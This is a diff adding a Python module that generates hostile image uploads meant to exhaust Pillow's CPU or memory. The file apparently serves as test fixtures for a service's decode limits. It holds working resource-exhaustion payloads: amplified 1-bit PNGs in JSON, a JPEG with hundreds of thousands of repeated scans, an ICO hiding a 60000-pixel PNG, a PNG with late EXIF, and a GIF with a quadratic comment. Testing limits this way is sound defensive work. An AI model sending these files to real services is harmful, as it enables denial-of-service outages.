@@ -1,0 +1,87 @@
+"""Hostile request bodies: small files that cost Pillow far more time or memory than they weigh.
+
+Each generator is deterministic and builds its bytes in about a second or less; the defaults are the
+reported attack sizes. Never decode a default-sized one without a limit in place: that is the attack."""
+import base64
+import io
+import json
+import struct
+import zlib
+
+from PIL import Image
+
+
+def _chunk(kind: bytes, data: bytes) -> bytes:
+    """One PNG chunk: length, type, data, CRC of type + data."""
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+def one_bit_png(side: int) -> bytes:
+    """Few bytes, many pixels: the costliest decode per byte seen (1-bit PNG to RGB)."""
+    buf = io.BytesIO()
+    Image.new("1", (side, side)).save(buf, "PNG")
+    return buf.getvalue()
+
+
+def amplified_json(count: int = 64, side: int = 6300) -> bytes:
+    """One JSON request of `count` base64 copies of a 1-bit PNG, each under a per-image pixel limit: 64 x 39.7 Mpx
+    is 2.5 Gpx in 0.42 MB. Attacks limits that are counted per image instead of per request."""
+    png = base64.b64encode(one_bit_png(side)).decode()
+    return json.dumps({"instances": [png] * count}).encode()
+
+
+def progressive_jpeg_repeated_scans(side: int = 6000, repeats: int = 400_000) -> bytes:
+    """A black progressive JPEG whose first scan (the SOS segment and one byte of entropy data) comes
+    `repeats` more times. libjpeg decodes every scan over every block, even when drafted to 1/8 scale:
+    200 scans cost 0.6 s at 6000x6000 (2.4 ms a scan), so 400,000 (4.5 MB) would take about 16 minutes.
+    Attacks limits on bytes or pixels alone: the cost is pixels x scans."""
+    buf = io.BytesIO()
+    Image.new("L", (side, side)).save(buf, "JPEG", progressive=True, quality=75)
+    data = buf.getvalue()
+    sos = data.index(b"\xff\xda")  # the first SOS marker: everything before it is a marker segment
+    end = sos + 2 + int.from_bytes(data[sos + 2:sos + 4], "big") + 1  # header + one entropy byte
+    assert data[end - 1] != 0xFF, "the copied entropy byte must not start a marker"
+    return data[:end] + data[sos:end] * repeats + data[end:]
+
+
+def ico_with_huge_png(side: int = 60000) -> bytes:
+    """An ICO whose directory says 256x256 but whose one frame is a side x side 1-bit PNG (437 KB at
+    60000). Pillow's ICO plugin decodes the frame inside Image.open, before any size check can run
+    (60000: about 3.4 GB and 15 s). Attacks limits checked after Image.open from the declared size."""
+    raw = side * (1 + (side + 7) // 8)  # each row: filter byte 0 + packed pixels, all of them zero bytes
+    block, rest = 1 << 24, raw % (1 << 24)  # deflate a block of zeros once; a full flush makes copies valid
+    copy = (z := zlib.compressobj(9, wbits=-15)).compress(bytes(block)) + z.flush(zlib.Z_FULL_FLUSH)
+    tail = (z := zlib.compressobj(9, wbits=-15)).compress(bytes(rest)) + z.flush()
+    adler = (raw % 65521) << 16 | 1  # Adler-32 of zero bytes: a stays 1, b counts them
+    idat = b"\x78\xda" + copy * (raw // block) + tail + struct.pack(">I", adler)
+    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # bit depth 1, grayscale
+    png = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")
+    header = struct.pack("<HHH", 0, 1, 1)  # reserved, type 1 (icon), one image
+    entry = struct.pack("<BBBBHHII", 0, 0, 0, 0, 1, 32, len(png), 6 + 16)  # 0 x 0 means 256 x 256
+    return header + entry + png
+
+
+def png_with_late_exif(side: int = 6300) -> bytes:
+    """A side x side 1-bit PNG whose eXIf chunk (Orientation 6) comes after the IDAT chunks, so
+    Image.getexif() (as used by ImageOps.exif_transpose) must decode the whole image to reach it.
+    Attacks code that reads EXIF orientation before its pixel limits apply."""
+    png = one_bit_png(side)
+    exif = Image.Exif()
+    exif[0x0112] = 6
+    blob = exif.tobytes().removeprefix(b"Exif\x00\x00")  # PNG's eXIf holds the bare TIFF structure
+    iend = png.rindex(b"IEND") - 4  # the IEND chunk starts with its 4-byte length
+    return png[:iend] + _chunk(b"eXIf", blob) + png[iend:]
+
+
+def gif_with_huge_comment(comment_bytes: int = 4_400_000) -> bytes:
+    """An 8x8 GIF whose comment extension holds `comment_bytes` in 255-byte sub-blocks before the image.
+    Pillow joins the sub-blocks with bytes += (quadratic): Image.open costs 1 to 5 s at 4.4 MB, depending
+    on the machine. Attacks limits that only count pixels."""
+    buf = io.BytesIO()
+    Image.new("L", (8, 8)).save(buf, "GIF")
+    gif = buf.getvalue()
+    flags = gif[10]
+    body = 13 + (3 << ((flags & 7) + 1) if flags & 0x80 else 0)  # header, screen descriptor, global palette
+    full, rest = divmod(comment_bytes, 255)
+    blocks = (b"\xff" + b"C" * 255) * full + (bytes([rest]) + b"C" * rest if rest else b"")
+    return gif[:body] + b"\x21\xfe" + blocks + b"\x00" + gif[body:]
